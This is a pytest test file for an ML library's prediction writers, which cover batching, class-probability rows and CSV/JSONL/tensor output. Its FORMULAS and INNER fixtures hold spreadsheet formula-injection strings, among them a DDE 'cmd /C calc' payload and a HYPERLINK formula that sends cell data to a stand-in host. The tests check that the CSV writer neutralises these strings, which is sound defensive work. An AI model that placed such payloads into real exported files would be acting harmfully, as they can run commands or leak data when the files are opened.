"""Predictions of any form: as rows, or kept in a file of torch's, one a sample."""

import csv
import json
import re
import signal
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any, Literal

import lightning as L
import numpy as np
import pytest
import torch

from datamodules import UserError
from lit_models import LitMLP
from lit_models.runs.durable import replaced, save
from lit_models.runs.prediction_rows import RowFile, Rows, Top, cell, nested, rows_of
from lit_models.runs.predictions import batched, described, in_order, plain, sample_names, shortened, unbatched
from lit_models.runs.results import write_results
from lit_models.tasks.targets import Classification, MultiLabel, Regression


@pytest.mark.parametrize(
    "prediction",
    [
        torch.arange(12.0).reshape(3, 2, 2),
        {"image": torch.rand(3, 4), "score": torch.rand(3)},
        (torch.rand(3, 2), torch.arange(3)),
        ["a", "b", "c"],
    ],
    ids=["tensor", "mapping", "tuple", "list"],
)
def test_samples_of_a_batch_come_apart_and_together_again(prediction: Any) -> None:
    samples = unbatched(prediction)
    assert samples is not None
    assert len(samples) == 3
    again = batched(samples)
    torch.testing.assert_close(again, prediction, rtol=0, atol=0) if not isinstance(prediction, list) else None
    assert type(again) is type(prediction)


def test_tensors_of_different_shapes_stay_a_list() -> None:
    ragged = [torch.rand(2), torch.rand(3)]
    assert batched(ragged) is ragged
    assert described(ragged) == "a list of 2"


def test_what_a_file_cannot_keep_is_refused_and_arrays_are_tensors() -> None:
    with pytest.raises(UserError) as caught:
        plain([object()])
    expected = "expected tensors, numbers or texts, or mappings, tuples or lists of them"
    assert str(caught.value) == f"predict_step returns a object, {expected}"
    kept = plain({"a": np.arange(3), "b": (np.float32(0.5), "text", None)})
    torch.testing.assert_close(kept["a"], torch.arange(3), rtol=0, atol=0)
    assert kept["b"] == (0.5, "text", None)


@pytest.mark.parametrize(
    "prediction",
    [3.0, torch.tensor(1.0), {"a": torch.rand(3), "loss": torch.tensor(1.0)}, (torch.rand(3), torch.rand(2))],
    ids=["number", "scalar", "mapping", "tuple"],
)
def test_batches_that_do_not_come_apart_are_kept_whole_in_order(prediction: Any) -> None:
    assert unbatched(prediction) is None
    batches = [([(0, 2)], "third"), ([(0, 0), (0, 1)], prediction)]
    assert in_order(batches) == (None, [prediction, "third"])


def test_samples_are_in_the_order_of_dataloaders_and_places() -> None:
    placed = [([(1, 0)], torch.tensor([30])), ([(0, 1), (0, 0)], torch.tensor([20, 10]))]
    places, predictions = in_order(placed)
    assert places == [(0, 0), (0, 1), (1, 0)]
    assert predictions.tolist() == [10, 20, 30]
    assert list(map(sample_names(None, several=True), places)) == ["loader[0][0]", "loader[0][1]", "loader[1][0]"]
    assert list(map(sample_names(None, several=False), places[:2])) == ["sample[0]", "sample[1]"]


def test_probabilities_of_any_module_are_classes_and_other_numbers_are_not() -> None:
    module = L.LightningModule()
    rows = rows_of(module, torch.tensor([[0.25, 0.75], [1.0, 0.0]]))
    assert rows is not None
    assert rows.row([0.25, 0.75]) == {"label": "1", "probability": 0.75, "p(0)": 0.25, "p(1)": 0.75}
    assert rows_of(module, torch.tensor([[0.5, 0.75]])) is None  # do not sum to 1
    assert rows_of(module, torch.tensor([[1.5, -0.5]])) is None
    assert rows_of(module, torch.tensor([[1.0], [1.0]])) is None  # one column is not a choice
    assert rows_of(module, torch.ones(2, 3, 3)) is None
    assert rows_of(module, torch.tensor([[0, 1]])) is None


def test_the_modules_class_names_are_used_where_there_is_one_a_column() -> None:
    class Named(L.LightningModule):
        def __init__(self, class_names: list[str]) -> None:
            super().__init__()
            self.save_hyperparameters()

    scores = torch.tensor([[0.25, 0.75]])
    for names, label in ((["no", "yes"], "yes"), (["a", "b", "c"], "1")):
        rows = rows_of(Named(names), scores)
        assert rows is not None
        assert rows.row(scores[0].tolist())["label"] == label


def test_numbers_of_a_regression_are_rows() -> None:
    rows = rows_of(LitMLP(num_features=2, task="regression"), torch.tensor([[7.5]]))
    assert rows is not None
    assert rows.row([7.5]) == {"value": 7.5}


def test_columns_of_probabilities_are_one_object_in_json() -> None:
    rows = Classification(2, ["a", "b"])
    assert nested(rows, [0.25, 0.75]) == {"label": "b", "probability": 0.75, "probabilities": {"a": 0.25, "b": 0.75}}
    assert nested(Regression(1, None), [1.0]) == {"value": 1.0}


def test_a_number_whose_name_looks_like_a_probability_stays_a_number() -> None:
    rows = Regression(1, ["p(1)"])
    assert nested(rows, [0.3]) == {"p(1)": 0.3}
    with pytest.raises(UserError, match="top_k is for classes and labels"):
        Top(rows, 1).row([0.3])


def test_the_best_of_several_labels_and_the_numbers_of_a_regression() -> None:
    labels = Top(MultiLabel(3, ["a", "b", "c"]), 2)
    scores = [0.25, 0.75, 0.5]
    best = {"label_1": "b", "probability_1": 0.75, "label_2": "c", "probability_2": 0.5}
    assert labels.row(scores) == {"labels": "b", **best}
    assert nested(labels, scores) == {"labels": "b", "probabilities": {"b": 0.75, "c": 0.5}}
    assert labels.line(scores) == "b 0.7500  c 0.5000"
    with pytest.raises(UserError, match=r"^top_k is for classes and labels, and the model predicts numbers"):
        Top(Regression(1, None), 2).line([1.0])


def test_types_and_shapes_are_described() -> None:
    tensor = torch.zeros(2, 3)
    assert described({"a": tensor, "b": tensor.long()}) == "a float32 (2, 3), b int64 (2, 3)"
    assert described((tensor, tensor)) == "float32 (2, 3), float32 (2, 3)"


def test_a_name_is_one_short_line_without_control_characters() -> None:
    assert shortened("a\tb\n c\x1b[2J") == "a b c\ufffd[2J"
    assert shortened("x" * 61) == "x" * 59 + "…"


def write(path: Path, names: Sequence[str], rows: Rows, predictions: torch.Tensor) -> None:
    file = RowFile(path, rows)
    for name, prediction in zip(names, predictions.tolist(), strict=True):
        file.add(name, prediction)
    file.close()


FORMULAS = [
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
]


def test_a_text_that_is_a_formula_has_an_apostrophe_in_csv_and_is_exact_in_json_lines(tmp_path: Path) -> None:
    """In the cells of inputs and labels, and in the names of columns."""
    label = "=1+1"
    predictions = torch.tensor([[0.25, 0.75]]).repeat(len(FORMULAS), 1)
    for name in ("predictions.csv", "predictions.jsonl"):
        write(tmp_path / name, FORMULAS, Classification(2, ["no", label]), predictions)
    with (tmp_path / "predictions.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    inside = {"\t=1+1": "\t'=1+1", "\r=1+1": "\r'=1+1"}  # where a cell could begin anew
    assert [row["input"] for row in rows] == [f"'{inside.get(text, text)}" for text in FORMULAS]
    assert all(row["label"] == f"'{label}" for row in rows)
    assert [float(row["p(no)"]) for row in rows] == [0.25] * len(FORMULAS)
    lines = (tmp_path / "predictions.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["input"] for line in lines] == FORMULAS
    assert {json.loads(line)["label"] for line in lines} == {label}


INNER = [
    *("x;=1+1", "x;\t @SUM(A1)", "x\n=1+1", "x\r\n+1+1", "x\t-1+1"),
    *('x;"=1+1"', "x; \uff1d1+1", "a;b;=1", "=1;=2", 'x;\n"\n=1'),
]
"""Texts with a formula inside, where a program that splits lines at other characters begins a cell."""


@pytest.mark.parametrize("delimiter", [";", "\t"])
@pytest.mark.parametrize("quoting", [csv.QUOTE_MINIMAL, csv.QUOTE_NONE])
def test_no_cell_is_a_formula_where_lines_are_split_at_semicolons_or_tabs(
    tmp_path: Path, delimiter: str, quoting: Literal[0, 3]
) -> None:
    rows = Classification(2, ["no", "yes;=1+1"])
    write(tmp_path / "p.csv", INNER, rows, torch.tensor([[0.25, 0.75]]).repeat(len(INNER), 1))
    with (tmp_path / "p.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file, delimiter=delimiter, quoting=quoting) for cell in row]
    assert not [cell for cell in cells if re.match(r'[\s"]*[=+\-@\uff1d]', cell)]
    assert len(cells) > len(INNER)


@pytest.mark.parametrize(
    ("text", "written"),
    [("x;=1", "x;'=1"), ("a\n-b", "a\n'-b"), ("a; b-c", "a; b-c"), ("a, -b", "a, -b"), ("a ;-)", "a ;-)")],
)
def test_an_apostrophe_inside_a_text_is_only_where_a_cell_could_begin(text: str, written: str) -> None:
    assert cell(text) == written


@pytest.mark.parametrize("value", [-1.5, -3, "-1.5", "+2e-3", "a = b", "", "one-two", "'=1"])
def test_numbers_and_plain_texts_are_as_they_are(value: Any) -> None:
    assert cell(value) == (f"{value:.8g}" if isinstance(value, float) else value)


ROWS = Classification(2, ["no", "yes"])
PROBABILITIES = torch.tensor([[0.25, 0.75]]).repeat(1000, 1)


def write_tensors(path: Path) -> None:
    with replaced(path) as part:
        save(PROBABILITIES, part)


WRITERS: dict[str, Callable[[Path], object]] = {
    "predictions.csv": lambda path: write(path, ["x"] * 1000, ROWS, PROBABILITIES),
    "predictions.jsonl": lambda path: write(path, ["x"] * 1000, ROWS, PROBABILITIES),
    "predictions.pt": write_tensors,
    "results.json": lambda path: write_results(path.parent, path.name, {"metrics": dict.fromkeys("abcd" * 9, 1.0)}),
}


@pytest.mark.skipif(sys.platform == "win32", reason="limits of files are of POSIX")
@pytest.mark.parametrize("name", list(WRITERS))
def test_a_full_disk_is_one_line_and_leaves_no_cut_file(tmp_path: Path, name: str) -> None:
    import resource

    handler, limits = signal.signal(signal.SIGXFSZ, signal.SIG_IGN), resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (50, limits[1]))
    try:
        with pytest.raises(UserError) as caught:
            WRITERS[name](tmp_path / name)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
        signal.signal(signal.SIGXFSZ, handler)
    assert str(caught.value).startswith(f"{tmp_path / name} cannot be written: the file is too large")
    assert list(tmp_path.iterdir()) == []
